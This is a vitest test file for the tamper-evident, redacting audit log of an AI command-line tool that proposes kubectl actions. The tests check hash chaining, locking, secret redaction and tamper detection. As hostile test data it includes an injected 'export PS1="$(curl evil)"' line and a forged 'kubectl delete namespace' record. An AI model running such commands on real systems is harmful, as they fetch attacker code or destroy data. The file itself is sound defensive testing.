import { randomBytes } from 'node:crypto';
import { chmod, mkdtemp, readFile, stat, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { REDACTED } from '../policy/secrets.js';
import { redactDeep, redactText } from './audit-redact.js';
import {
  AuditLogError,
  GENESIS,
  auditLogPath,
  canonicalJson,
  openAuditLog,
  readAuditLog,
  sha256,
  verifyAuditLog,
  type AuditLog,
} from './audit.js';

async function tempLog(): Promise<string> {
  const dir = await mkdtemp(path.join(tmpdir(), 'todoctl-audit-'));
  return path.join(dir, 'state', 'todoctl', 'audit.jsonl');
}

/** 10:00:00, 10:00:01, … : one second a record. */
function tickingClock(start = Date.parse('2025-06-01T10:00:00.000Z')): () => Date {
  let t = start;
  return () => new Date((t += 1000) - 1000);
}

/** One run as todoctl ai writes it: asked, answered, proposed, allowed, confirmed, ran, verified. */
async function writeRun(log: AuditLog): Promise<void> {
  await log.append('run-start', {
    data: { argv: ['ai', 'why is the backend crashing?'], question: 'why is the backend crashing?' },
  });
  await log.append('prompt', { data: { text: 'The backend pod restarts. Events: Back-off restarting failed container.' } });
  await log.append('response', {
    data: { text: 'The probe path is wrong; restart after fixing it.' },
    tokens: { prompt: 812, completion: 40, total: 852 },
  });
  const argv = ['kubectl', 'rollout', 'restart', 'deployment/todo-backend', '-n', 'todo-dev'];
  await log.append('proposal', { data: { argv, risk: 'reversible' } });
  await log.append('decision', {
    data: { argv, verdict: 'confirm', rule: 'TODO-AI-002', reason: 'a reversible write asks y/N' },
  });
  await log.append('confirmation', {
    data: { question: 'Restart deployment/todo-backend in todo-dev?', answer: 'y', accepted: true },
  });
  await log.append('execution', { data: { argv, exitCode: 0, durationMs: 340 } });
  await log.append('verification', { data: { check: 'rollout status deployment/todo-backend', ok: true } });
  await log.append('run-end', { data: { outcome: 'fixed', exitCode: 0 } });
}

async function lines(file: string): Promise<string[]> {
  return (await readFile(file, 'utf8')).split('\n').slice(0, -1);
}

describe('the audit log: appending', () => {
  it('creates the log 0600 in a 0700 folder and chains each record to the line before', async () => {
    const file = await tempLog();
    const log = await openAuditLog(file, {
      user: 'alice',
      clock: tickingClock(),
      context: 'minikube',
      namespace: 'todo-dev',
      model: 'gpt-4o-mini',
    });
    await writeRun(log);

    expect((await stat(file)).mode & 0o777).toBe(0o600);
    expect((await stat(path.dirname(file))).mode & 0o777).toBe(0o700);
    const written = await lines(file);
    expect(written).toHaveLength(9);
    const records = written.map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(records.map((r) => r.seq)).toEqual([1, 2, 3, 4, 5, 6, 7, 8, 9]);
    expect(records[0]!.prev).toBe(GENESIS);
    for (let i = 1; i < records.length; i++) expect(records[i]!.prev).toBe(sha256(written[i - 1]!));
    for (const r of records) {
      const { hash, ...unsigned } = r;
      expect(hash).toBe(sha256(canonicalJson(unsigned)));
    }
    expect(Object.keys(records[2]!)).toEqual([
      'v',
      'seq',
      'runId',
      'time',
      'kind',
      'user',
      'context',
      'namespace',
      'model',
      'tokens',
      'data',
      'prev',
      'hash',
    ]);
    expect(records[2]).toMatchObject({
      v: 1,
      runId: log.runId,
      time: '2025-06-01T10:00:02.000Z',
      kind: 'response',
      user: 'alice',
      context: 'minikube',
      namespace: 'todo-dev',
      model: 'gpt-4o-mini',
      tokens: { prompt: 812, completion: 40, total: 852 },
    });
    // tokens only when known
    expect(records[0]).not.toHaveProperty('tokens');
    expect(await verifyAuditLog(file)).toMatchObject({ ok: true, exists: true, warnings: [] });
  });

  it('returns the record exactly as written, and continues the chain of an existing log in a new run', async () => {
    const file = await tempLog();
    const first = await openAuditLog(file, { user: 'alice' });
    const written = await first.append('run-start', { data: { argv: ['ai'] } });
    expect(JSON.parse((await lines(file))[0]!)).toEqual(written);

    const second = await openAuditLog(file, { user: 'bob', model: 'llama3' });
    const next = await second.append('run-start', { data: { argv: ['ai'] }, context: 'kind-dev' });
    expect(second.runId).not.toBe(first.runId);
    expect(next).toMatchObject({
      seq: 2,
      prev: sha256((await lines(file))[0]!),
      user: 'bob',
      model: 'llama3',
      context: 'kind-dev',
    });
    expect(next.namespace).toBeNull();
  });

  it('redacts API keys, bearer tokens, credential URLs and Secret data from every string before writing', async () => {
    // built at run time: the repository's secret scanner rejects literal secrets in tests
    const openaiKey = `sk-proj-${randomBytes(24).toString('hex')}`;
    const bearer = randomBytes(24).toString('base64url');
    const flagToken = randomBytes(16).toString('hex');
    const dbPassword = randomBytes(9).toString('hex');
    const secretData = Buffer.from(`todo-${randomBytes(12).toString('hex')}`).toString('base64');
    const file = await tempLog();
    const log = await openAuditLog(file, { user: 'alice' });

    const prompt = await log.append('prompt', {
      data: { text: `OPENAI_API_KEY is ${openaiKey}; curl -H "Authorization: Bearer ${bearer}" http://todo-backend/api` },
    });
    await log.append('response', {
      data: {
        text: `apiVersion: v1\nkind: Secret\nmetadata:\n  name: todo-backend\ndata:\n  DATABASE_PASSWORD: ${secretData}\ntype: Opaque\n`,
      },
    });
    await log.append('execution', {
      data: {
        argv: ['kubectl', 'rollout', 'restart', 'deployment/todo-backend', '--token', flagToken],
        exitCode: 1,
        durationMs: 12,
        stderr: `cannot reach postgres://todo:${dbPassword}@todo-db:5432/todo`,
      },
    });

    const content = await readFile(file, 'utf8');
    for (const secret of [openaiKey, bearer, flagToken, dbPassword, secretData]) expect(content).not.toContain(secret);
    expect(prompt.data.text).toBe(
      `OPENAI_API_KEY is ${REDACTED}; curl -H "Authorization: Bearer ${REDACTED}" http://todo-backend/api`,
    );
    const [, response, execution] = (await readAuditLog(file)).records;
    expect(response!.data).toEqual({
      text: `apiVersion: v1\nkind: Secret\nmetadata:\n  name: todo-backend\ndata:\n  DATABASE_PASSWORD: ${REDACTED}\ntype: Opaque\n`,
    });
    expect(execution!.data).toEqual({
      argv: ['kubectl', 'rollout', 'restart', 'deployment/todo-backend', '--token', REDACTED],
      exitCode: 1,
      durationMs: 12,
      stderr: `cannot reach postgres://todo:${REDACTED}@todo-db:5432/todo`,
    });
    // the chain covers what was written, the redacted text
    expect((await verifyAuditLog(file)).ok).toBe(true);
  });

  it('keeps one chain when several runs append at once', async () => {
    const file = await tempLog();
    const logs = await Promise.all([1, 2, 3].map((n) => openAuditLog(file, { user: `user${n}` })));
    await Promise.all(
      logs.flatMap((log) =>
        Array.from({ length: 12 }, (_, i) =>
          log.append('execution', { data: { argv: ['kubectl', 'get', 'pods'], exitCode: 0, durationMs: i } }),
        ),
      ),
    );
    const verification = await verifyAuditLog(file);
    expect(verification.ok).toBe(true);
    expect(verification.records.map((r) => r.seq)).toEqual(Array.from({ length: 36 }, (_, i) => i + 1));
    for (const log of logs) expect(verification.records.filter((r) => r.runId === log.runId)).toHaveLength(12);
    await expect(stat(`${file}.lock`)).rejects.toThrow(/ENOENT/);
  });

  it('waits for a lock another process holds, and breaks one whose holder is gone', async () => {
    const file = await tempLog();
    const log = await openAuditLog(file, { user: 'alice' });
    const lockFile = `${file}.lock`;
    const { hostname } = await import('node:os');
    const lock = (pid: number) => JSON.stringify({ pid, host: hostname(), token: 'other', time: new Date().toISOString() });

    // held by a running process (this one, under another token): the append waits for its release
    await writeFile(lockFile, lock(process.pid));
    let done = false;
    const pending = log.append('run-start', { data: { argv: ['ai'] } }).then((r) => ((done = true), r));
    await new Promise((resolve) => setTimeout(resolve, 150));
    expect(done).toBe(false);
    const { rm } = await import('node:fs/promises');
    await rm(lockFile);
    expect((await pending).seq).toBe(1);

    // held by a process that no longer runs (pids stop below 2^22): broken at once
    await writeFile(lockFile, lock(2 ** 22 + 7));
    expect((await log.append('run-end', { data: { outcome: 'answered' } })).seq).toBe(2);
    await expect(stat(lockFile)).rejects.toThrow(/ENOENT/);

    // a live holder that never lets go: a clear error once the wait is over
    await writeFile(lockFile, lock(process.pid));
    const impatient = await openAuditLog(file, { user: 'alice', lock: { timeoutMs: 100 } }).catch((e: unknown) => e);
    expect(impatient).toBeInstanceOf(Error);
    expect((impatient as Error).message).toContain(`is held by process ${process.pid}`);
    await rm(lockFile);
  });

  it('refuses to append to a file that does not end with an audit record, and leaves it alone', async () => {
    const file = await tempLog();
    const log = await openAuditLog(file, { user: 'alice' });
    await log.append('run-start', { data: { argv: ['ai'] } });
    const { appendFile } = await import('node:fs/promises');
    await appendFile(file, 'export PS1="$(curl evil)"\n');
    const before = await readFile(file, 'utf8');
    await expect(log.append('run-end', { data: { outcome: 'answered' } })).rejects.toThrow(AuditLogError);
    await expect(openAuditLog(file, { user: 'alice' })).rejects.toThrow(/does not end with an audit record: not JSON/);
    expect(await readFile(file, 'utf8')).toBe(before);

    const cut = await tempLog();
    await (await openAuditLog(cut, { user: 'alice' })).append('run-start', { data: { argv: ['ai'] } });
    await writeFile(cut, (await readFile(cut, 'utf8')).slice(0, -1));
    await expect(openAuditLog(cut, { user: 'alice' })).rejects.toThrow(/incomplete line/);
  });
});

describe('the audit log: a path it cannot use', () => {
  it('names the log and says what to do, rather than failing with a bare system error', async () => {
    const folder = path.dirname(await tempLog());
    const { mkdir } = await import('node:fs/promises');
    await mkdir(folder, { recursive: true });
    const opened = await openAuditLog(folder, { user: 'alice' }).catch((e: unknown) => e);
    expect(opened).toBeInstanceOf(AuditLogError);
    expect((opened as AuditLogError).message).toMatch(new RegExp(`^cannot open the audit log ${folder}: EISDIR`));
    expect((opened as AuditLogError).hint).toContain('TODOCTL_AUDIT_FILE');
    await expect(verifyAuditLog(folder)).rejects.toThrow(`cannot read the audit log ${folder}`);
  });
});

describe('the audit log: verifying', () => {
  async function sealed(): Promise<{ file: string; text: string[] }> {
    const file = await tempLog();
    await writeRun(await openAuditLog(file, { user: 'alice', clock: tickingClock() }));
    return { file, text: await lines(file) };
  }
  const save = (file: string, text: string[]) => writeFile(file, `${text.join('\n')}\n`);

  it('passes an intact log, and a missing one as "no log yet"', async () => {
    const { file } = await sealed();
    expect(await verifyAuditLog(file)).toMatchObject({ ok: true, exists: true, warnings: [] });
    expect(await verifyAuditLog(`${file}.missing`)).toEqual({
      ok: true,
      path: `${file}.missing`,
      exists: false,
      records: [],
      warnings: [],
    });
  });

  it('names an edited record: its content no longer matches its hash', async () => {
    const { file, text } = await sealed();
    text[6] = text[6]!.replace('"exitCode":0', '"exitCode":1');
    await save(file, text);
    expect(await verifyAuditLog(file)).toMatchObject({
      ok: false,
      line: 7,
      seq: 7,
      problem: 'edited: its content does not match its hash',
    });
  });

  it('names the record after one edited with its hash recomputed: the link breaks', async () => {
    const { file, text } = await sealed();
    const { hash: _hash, ...record } = JSON.parse(text[3]!) as { hash: string } & Record<string, unknown>;
    const unsigned = { ...record, data: { argv: ['kubectl', 'delete', 'namespace', 'todo-dev'] } };
    text[3] = JSON.stringify({ ...unsigned, hash: sha256(canonicalJson(unsigned)) });
    await save(file, text);
    const v = await verifyAuditLog(file);
    expect(v).toMatchObject({ ok: false, line: 5, seq: 5 });
    expect(!v.ok && v.problem).toContain('prev does not match the hash of line 4');
  });

  it('names a deleted record by the gap it leaves, the first one too', async () => {
    const { file, text } = await sealed();
    await save(
      file,
      text.filter((_, i) => i !== 4),
    );
    expect(await verifyAuditLog(file)).toMatchObject({
      ok: false,
      line: 5,
      seq: 6,
      problem: 'seq 5 is missing (deleted) before it',
    });
    await save(file, text.slice(1));
    expect(await verifyAuditLog(file)).toMatchObject({
      ok: false,
      line: 1,
      seq: 2,
      problem: 'seq 1 is missing (deleted) before it',
    });
    await save(
      file,
      text.filter((_, i) => i !== 2 && i !== 3),
    );
    expect(await verifyAuditLog(file)).toMatchObject({
      ok: false,
      line: 3,
      problem: 'seq 3 to 4 are missing (deleted) before it',
    });
  });

  it('names reordered records', async () => {
    const { file, text } = await sealed();
    [text[2], text[3]] = [text[3]!, text[2]!];
    await save(file, text);
    expect(await verifyAuditLog(file)).toMatchObject({
      ok: false,
      line: 3,
      seq: 4,
      problem: 'out of order: seq 3 should be here but is at line 4',
    });
  });

  it('names a garbled line, a reformatted one and a cut-off end', async () => {
    const { file, text } = await sealed();
    const garbled = [...text];
    garbled[5] = garbled[5]!.slice(0, 40);
    await save(file, garbled);
    expect(await verifyAuditLog(file)).toMatchObject({
      ok: false,
      line: 6,
      seq: null,
      problem: 'not JSON (garbled or cut short)',
    });

    const reformatted = [...text];
    reformatted[8] = JSON.stringify(JSON.parse(reformatted[8]!), null, 1).replace(/\n/g, '');
    await save(file, reformatted);
    expect(await verifyAuditLog(file)).toMatchObject({
      ok: false,
      line: 9,
      seq: 9,
      problem: expect.stringContaining('rewritten'),
    });

    await writeFile(file, `${text.join('\n')}\n${text[8]!.slice(0, 30)}`);
    expect(await verifyAuditLog(file)).toMatchObject({ ok: false, line: 10, problem: expect.stringContaining('incomplete') });
  });

  it('names a record that is JSON but not an audit record', async () => {
    const { file, text } = await sealed();
    text[1] = JSON.stringify({ ...(JSON.parse(text[1]!) as object), kind: 'telemetry' });
    await save(file, text);
    const v = await verifyAuditLog(file);
    expect(v).toMatchObject({ ok: false, line: 2, seq: 2 });
    expect(!v.ok && v.problem).toContain('field "kind"');
  });

  it('warns of a mode wider than 0600 and of a log that ends inside a run, without failing', async () => {
    const { file, text } = await sealed();
    await chmod(file, 0o644);
    await save(file, text.slice(0, 7));
    const v = await verifyAuditLog(file);
    expect(v.ok).toBe(true);
    expect(v.warnings).toEqual([
      `${file} has mode 0644: others can read what the AI was told; run chmod 600 ${file}`,
      expect.stringMatching(/^the log ends inside run .+ \(seq 7, a execution record\)/),
    ]);
  });
});

describe('the audit log: where it is', () => {
  const home = '/home/alice';
  it('is TODOCTL_AUDIT_FILE, else ai.auditLog, else under $XDG_STATE_HOME, else ~/.local/state', () => {
    const configured = { file: '.todoctl/audit.jsonl', root: '/work/shop' };
    expect(auditLogPath({ env: { TODOCTL_AUDIT_FILE: 'logs/a.jsonl' }, home, cwd: '/tmp/x', configured })).toBe(
      '/tmp/x/logs/a.jsonl',
    );
    expect(auditLogPath({ env: { XDG_STATE_HOME: '/state' }, home, cwd: '/tmp/x', configured })).toBe(
      '/work/shop/.todoctl/audit.jsonl',
    );
    expect(auditLogPath({ env: {}, home, cwd: '/tmp', configured: { file: '~/audit/ai.jsonl', root: '/work/shop' } })).toBe(
      '/home/alice/audit/ai.jsonl',
    );
    expect(auditLogPath({ env: { XDG_STATE_HOME: '/state' }, home, cwd: '/tmp' })).toBe('/state/todoctl/audit.jsonl');
    // the XDG spec ignores a relative path
    expect(auditLogPath({ env: { XDG_STATE_HOME: 'state' }, home, cwd: '/tmp' })).toBe(
      '/home/alice/.local/state/todoctl/audit.jsonl',
    );
  });
});

describe('the audit log: redaction', () => {
  const b64 = (s: string) => Buffer.from(s).toString('base64');

  it("redacts a Secret's data, as an object and as the YAML or JSON kubectl prints, and nothing else of it", () => {
    const secret = {
      apiVersion: 'v1',
      kind: 'Secret',
      metadata: { name: 'todo-backend' },
      data: { DATABASE_URL: b64('x') },
      stringData: { MODE: 'plain' },
    };
    expect(redactDeep(secret)).toEqual({ ...secret, data: { DATABASE_URL: REDACTED }, stringData: { MODE: REDACTED } });
    expect(redactText(JSON.stringify(secret))).toBe(
      JSON.stringify({ ...secret, data: { DATABASE_URL: REDACTED }, stringData: { MODE: REDACTED } }),
    );
    const configMap = 'kind: ConfigMap\ndata:\n  LOG_LEVEL: info\n';
    expect(redactText(configMap)).toBe(configMap);
  });

  it('redacts the value of a secret-named key or --flag, and base64 that encodes a secret', () => {
    const password = randomBytes(6).toString('hex');
    const apiKey = `sk-proj-${randomBytes(24).toString('hex')}`;
    expect(
      redactDeep({
        env: { DB_PASSWORD: password, PORT: '3000' },
        argv: ['helm', '--password', password, '--namespace', 'todo-dev'],
      }),
    ).toEqual({
      env: { DB_PASSWORD: REDACTED, PORT: '3000' },
      argv: ['helm', '--password', REDACTED, '--namespace', 'todo-dev'],
    });
    expect(redactText(`DB_PASSWORD=${password} node dist/server.js`)).toBe(`DB_PASSWORD=${REDACTED} node dist/server.js`);
    expect(redactText(`value: ${b64(`OPENAI_API_KEY=${apiKey}`)}`)).toBe(`value: ${REDACTED}`);
    const privateKey = `-----BEGIN PRIVATE KEY-----\n${randomBytes(48).toString('base64')}\n${randomBytes(48).toString('base64')}\n-----END PRIVATE KEY-----`;
    expect(redactText(`key:\n${privateKey}\ndone`)).toBe(`key:\n${REDACTED}\ndone`);
  });

  it('keeps placeholders, references and ordinary text as they are', () => {
    for (const text of [
      'curl -H "Authorization: Bearer ${TOKEN}" http://todo-backend/api',
      'postgres://todo:${DB_PASSWORD}@todo-db:5432/todo',
      'OPENAI_API_KEY=<your-key>',
      'kubectl rollout restart deployment/todo-backend -n todo-dev',
      `image todo-backend@sha256:${randomBytes(32).toString('hex')}`,
      'The readiness probe points at /healthz; the app serves /health.',
    ]) {
      expect(redactText(text)).toBe(text);
    }
  });
});
